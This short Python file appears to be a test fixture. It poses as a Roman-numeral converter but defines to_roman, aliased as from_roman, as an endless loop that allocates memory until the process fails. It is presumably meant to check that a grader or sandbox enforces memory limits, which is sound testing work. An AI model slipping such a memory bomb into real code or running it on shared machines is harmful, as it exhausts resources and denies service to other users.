"""Takes memory until there is none, and then again."""

pieces = []


def to_roman(number):
    while True:
        try:
            pieces.append(bytearray(1 << 20))
        except MemoryError:
            raise


from_roman = to_roman
